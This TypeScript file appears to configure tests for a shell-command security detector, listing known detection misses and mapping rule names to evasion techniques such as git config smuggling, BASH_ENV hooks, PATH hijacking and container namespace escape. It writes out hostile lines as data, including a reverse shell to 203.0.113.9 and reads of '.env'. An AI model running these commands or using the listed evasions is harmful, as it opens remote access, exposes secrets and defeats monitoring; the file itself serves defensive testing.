/** Attacks that a way of writing hides, as we know. One that is found fails the test, so that the list stays true. */
export const KNOWN_MISSES: Readonly<Record<string, readonly string[]>> = {
  // A secret that only goes into a variable, and is not printed, was loaded and not shown: no decision is lost with it.
  'substitutions: substitution in an assignment': ['cat .env'],
  'substitutions: substitution before a command': ['cat .env'],
  'substitutions: substitution in export': ['cat .env'],
  'substitutions: substitution in local': ['cat .env'],
  'substitutions: substitution in an array': ['cat .env'],
  // `open(F, "command >& … |")` of Perl is read as a file when the command has redirects of its own.
  'languages: perl open': ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
}

/** Ways of writing that only put the command where something else runs it, in another place: a build server, the image of a container. Here it does not run. */
export const ONLY_WRITTEN: readonly string[] = ['programs: workflow file', 'programs: Dockerfile']

/** What a way of writing does by itself, whatever the command: rules that are reported for harmless commands too, with the names (or whole groups) that they are reported for. */
export const OWN_RULES: Readonly<Record<string, readonly string[]>> = {
  'code_execution/decode-and-run': ['encodings', 'scripts: script out of base64', 'languages: python joined letters'],
  'code_execution/encoded-command': ['quoting: invisible characters in a comment', 'variables: letters of the environment', 'variables: splitting by IFS', 'places: brace list of all words'],
  'code_execution/smuggled-code': [
    'programs: git -c core.pager', 'programs: git -c core.editor', 'programs: git -c alias', 'programs: git -c core.sshCommand', 'programs: git -c core.fsmonitor', 'programs: git -c diff.external', 'programs: git ext::',
    'programs: make --eval', 'programs: make --eval, recipe', 'languages: gdb python', 'substitutions: substitution in an index',
  ],
  'persistence/scheduled-task': ['programs: cron', 'programs: cron, kept entries', 'programs: cron by a file', 'programs: at', 'programs: at -f', 'programs: batch', 'programs: systemd-run on a calendar'],
  'persistence/git-hook': ['programs: git hook'],
  'persistence/git-config': ['programs: git config alias, then used'],
  'persistence/shell-startup': ['feeding: BASH_ENV', 'feeding: PROMPT_COMMAND'],
  'defense_evasion/library-injection': [
    'substitutions: PS4', 'feeding: BASH_ENV', 'feeding: PROMPT_COMMAND', 'programs: LESSOPEN', 'programs: PAGER of man', 'programs: MANPAGER', 'programs: EDITOR of git', 'programs: GIT_EDITOR', 'programs: VISUAL of crontab',
    'programs: GIT_PAGER', 'programs: GIT_SSH_COMMAND', 'programs: GIT_EXTERNAL_DIFF', 'programs: dpkg pager', 'programs: npm_config_script_shell',
  ],
  'defense_evasion/shadowed-command': [
    'structure: function named like a command', 'structure: alias that shadows', 'structure: trap on EXIT', 'structure: trap on a signal that it sends itself', 'structure: trap on ERR', 'structure: trap on DEBUG',
  ],
  'defense_evasion/path-hijack': ['places: copy found by PATH', 'scripts: script found by PATH'],
  'container_escape/host-namespace': ['wrappers: nsenter -t 1 -m --'],
  'privilege_escalation/capability': ['wrappers: unshare -r'],
  'collection/traffic': ['programs: tcpdump -z'],
  'file_access/traversal': ['places: path with double dots'],
  'file_access/disguised-path': ['places: path through /proc/self/root'],
  'callback_validation/obfuscated-address': ['places: full-width letters in the host', 'places: ideographic full stop in the host'],
  'callback_validation/look-alike': ['places: URL with user information'],
  'database/file-written': ['languages: sqlite3 .shell', 'languages: psql \\!', 'languages: mysql \\!'],
}
